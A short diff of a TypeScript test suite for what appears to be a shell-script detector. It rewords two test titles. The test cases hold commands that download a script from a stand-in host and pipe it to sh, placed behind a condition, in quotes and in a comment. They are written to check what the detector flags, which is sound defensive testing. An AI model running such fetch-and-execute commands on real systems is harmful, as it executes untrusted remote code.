@@ -19,7 +19,7 @@ const endings: Readonly<Record<string, string>> = {
 };
 
 describe("long scripts", { timeout: 120_000 }, () => {
-  it.each([31_000, 250_000])("a script of %i characters is read to its end", async (size) => {
+  it.each([31_000, 250_000])("a script of %i characters is read completely", async (size) => {
     const text = longScript(size);
     const detection = (await sharedDetector()).detect(text);
     assertSound(text, detection);
@@ -39,7 +39,7 @@ describe("long scripts", { timeout: 120_000 }, () => {
     ["a pipe behind a condition", "installed && «curl https://depot.example/x | sh»"],
     ["a quoted pipe", "echo 'curl https://depot.example/x | sh'"],
     ["a pipe in a comment", "true # curl https://depot.example/x | sh"],
-  ])("of a case with many arms, %s in one", async (_, marked) => {
+  ])("with a case of many arms and %s in one of them are read", async (_, marked) => {
     const command = marked.replace(/[«»]/g, "");
     const wanted = [/«(.*)»/.exec(marked)?.[1]].filter((each) => each !== undefined);
     for (const pattern of ["x", "(x)", '"a b"|x', "[xy]*", "*"]) {
